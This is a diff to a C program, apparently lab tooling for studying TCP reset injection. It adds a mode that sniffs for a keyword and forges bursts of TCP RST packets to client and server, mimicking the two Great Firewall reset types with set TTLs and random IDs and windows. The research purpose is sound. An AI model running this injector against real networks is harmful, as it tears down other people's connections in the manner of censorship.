@@ -1,8 +1,8 @@
 /*
  * inject.c: an on-path TCP reset injector for the rstaudit lab.
  *
- *	inject -i IFACE -k KEYWORD [-cRT] [-n COUNT] [-p PORT] [-d DELAY_MS]
- *	    [-t SECONDS]
+ *	inject -i IFACE -k KEYWORD [-cRT] [-G 1|2] [-n COUNT] [-p PORT]
+ *	    [-d DELAY_MS] [-t SECONDS]
  *
  * Sniffs the packets arriving on IFACE with an AF_PACKET socket (it never
  * sits in the forwarding path: the routers keep forwarding everything).
@@ -29,6 +29,18 @@
  * With -T it copies the TTL (hop limit) of the server's packets as they
  * leave IFACE, so that its RSTs arrive with the server's TTL (issue 9's
  * TTL-copying injector), and stamps one fixed IPv4 ID (0x5a5a) on each.
+ *
+ * With -G it forges the two kinds of reset the Great Firewall was seen to
+ * send (Weaver, Sommer and Paxson, NDSS 2009; Wang et al., IMC 2017),
+ * three to the client and one to the server:
+ *
+ *  - -G 1, type 1: RST alone (no ACK, ack 0), every copy at seq = the
+ *    trigger's ack, TTLs 47, 112, 201 as they leave IFACE (one fixed
+ *    set, so the lab can check what arrives), IPv4 IDs and windows from
+ *    a PRNG, DF clear;
+ *  - -G 2, type 2: RST|ACK at seq = the trigger's ack, +1460, +4380, TTL
+ *    and window counting up by one from one base per burst (TTL 100,
+ *    101, 102; window from the PRNG), IPv4 ID from the PRNG, DF clear.
  *
  * Forged packets go out through raw IP sockets, so the kernel routes them.
  * Prints "ready" on stdout once capturing; logs each injection on stderr.
@@ -63,6 +75,8 @@
 #define MAX_TTLS	16
 
 static const uint32_t burst_offset[BURST] = { 0, 1460, 4380 };
+static const uint8_t gfw1_ttl[BURST] = { 47, 112, 201 };
+#define GFW2_TTL	100	/* -G 2: the first RST's; then 101, 102 */
 static long burst_count = BURST;	/* -n */
 
 /* One TCP segment's identity, as seen on the wire (host byte order). */
@@ -75,6 +89,7 @@ struct seg {
 	uint16_t	 ipid;
 	uint8_t		 ttl;		/* as received; as sent, for a forged RST
 					 * (0: FORGED_TTL) */
+	uint8_t		 flags;		/* a forged RST's (0: RST|ACK) */
 	size_t		 paylen;
 };
 
@@ -94,7 +109,8 @@ static volatile sig_atomic_t quit;
 static struct pending pending[MAX_PENDING];
 static int npending;
 static int raw4 = -1, raw6 = -1;
-static int client_only, copy_ttl, trigger_ttl;
+static int client_only, copy_ttl, trigger_ttl, gfw_type;
+static uint32_t prng_state = 0x2545f491;
 static struct ttl_seen ttls[MAX_TTLS];
 static int nttls;
 
@@ -249,7 +265,7 @@ rst_build(const struct seg *s, uint8_t *buf)
 	put32(tcp + 4, s->seq);
 	put32(tcp + 8, s->ack);
 	tcp[12] = 5 << 4;
-	tcp[13] = TH_RST | TH_ACK;
+	tcp[13] = s->flags ? s->flags : TH_RST | TH_ACK;
 	put16(tcp + 14, s->win);
 	/* Pseudo-header: addresses, protocol, TCP length. */
 	sum = csum_add(0, s->src, alen);
@@ -328,12 +344,44 @@ ttl_of(int family, const uint8_t *addr)
 	return 0;
 }
 
+/* xorshift32: the GFW modes' "random" IDs and windows. */
+static uint16_t
+prng16(void)
+{
+	prng_state ^= prng_state << 13;
+	prng_state ^= prng_state >> 17;
+	prng_state ^= prng_state << 5;
+	return (uint16_t)(prng_state >> 8);
+}
+
+/*
+ * -G: shape the i-th RST of a burst to the client the way GFW type 1 or
+ * type 2 does (see the top of the file); base is the burst's first
+ * window (type 2).
+ */
+static void
+gfw_shape(struct seg *c, const struct seg *t, long i, uint16_t base)
+{
+	c->ipid = prng16();
+	if (gfw_type == 1) {
+		c->flags = TH_RST;
+		c->seq = t->ack;
+		c->ack = 0;
+		c->ttl = gfw1_ttl[i % BURST];
+		c->win = prng16();
+	} else {
+		c->ttl = (uint8_t)(GFW2_TTL + i % BURST);
+		c->win = (uint16_t)(base + i % BURST);
+	}
+}
+
 /* Forge the burst to the client now; queue the RST to the server. */
 static void
 inject(const struct seg *t, double delay)
 {
 	struct seg c = *t, sv = *t;
 	char name[128];
+	uint16_t base;
 	double t0;
 	long i;
 
@@ -350,16 +398,20 @@ inject(const struct seg *t, double delay)
 	}
 	if (trigger_ttl)
 		c.ttl = t->ttl;
+	base = prng16();
 	t0 = clk_mono_s();
 	for (i = 0; i < burst_count; i++) {
 		c.seq = t->ack + burst_offset[i % BURST];
+		if (gfw_type)
+			gfw_shape(&c, t, i, base);
 		rst_send(&c);
 	}
 	t0 = clk_mono_s() - t0;
 	fprintf(stderr, "inject: trigger %s seq %u ack %u: %ld RSTs to the "
-	    "client at seq %u +1460 +4380, ttl %u, in %.3f ms (%.0f/s)\n",
+	    "client at seq %u%s, ttl %u%s, in %.3f ms (%.0f/s)\n",
 	    seg_name(t, name, sizeof(name)), t->seq, t->ack, burst_count,
-	    t->ack, c.ttl ? c.ttl : FORGED_TTL, t0 * 1e3,
+	    t->ack, gfw_type == 1 ? " (type 1: R, no ACK)" : " +1460 +4380",
+	    c.ttl ? c.ttl : FORGED_TTL, gfw_type ? " (last)" : "", t0 * 1e3,
 	    t0 > 0 ? burst_count / t0 : 0.0);
 
 	if (client_only)
@@ -368,6 +420,10 @@ inject(const struct seg *t, double delay)
 	sv.seq = t->seq + (uint32_t)t->paylen;
 	sv.ack = t->ack;
 	sv.ttl = FORGED_TTL;
+	if (gfw_type == 1) {
+		sv.flags = TH_RST;
+		sv.ack = 0;
+	}
 	if (npending == MAX_PENDING) {
 		fprintf(stderr, "inject: too many pending resets; dropped\n");
 		return;
@@ -432,8 +488,8 @@ sniff_open(const char *ifname)
 static void
 usage(void)
 {
-	fprintf(stderr, "usage: inject -i IFACE -k KEYWORD [-cRT] [-n COUNT] "
-	    "[-p PORT] [-d DELAY_MS] [-t SECONDS]\n");
+	fprintf(stderr, "usage: inject -i IFACE -k KEYWORD [-cRT] [-G 1|2] "
+	    "[-n COUNT] [-p PORT] [-d DELAY_MS] [-t SECONDS]\n");
 	exit(2);
 }
 
@@ -448,9 +504,10 @@ main(int argc, char *argv[])
 	double delay = 0.3, deadline, seconds = 120;
 	int fd, ch;
 
-	while ((ch = getopt(argc, argv, "ci:k:n:p:d:t:RT")) != -1) {
+	while ((ch = getopt(argc, argv, "cG:i:k:n:p:d:t:RT")) != -1) {
 		switch (ch) {
 		case 'c': client_only = 1; break;
+		case 'G': gfw_type = (int)strtol(optarg, NULL, 10); break;
 		case 'n': burst_count = strtol(optarg, NULL, 10); break;
 		case 'R': trigger_ttl = 1; break;
 		case 'T': copy_ttl = 1; break;
@@ -462,8 +519,10 @@ main(int argc, char *argv[])
 		default: usage();
 		}
 	}
-	if (ifname == NULL || keyword == NULL || *keyword == '\0')
+	if (ifname == NULL || keyword == NULL || *keyword == '\0' ||
+	    gfw_type < 0 || gfw_type > 2)
 		usage();
+	prng_state ^= (uint32_t)getpid() << 16 ^ (uint32_t)time(NULL);
 	deadline = clk_mono_s() + seconds;
 	signal(SIGINT, on_signal);
 	signal(SIGTERM, on_signal);
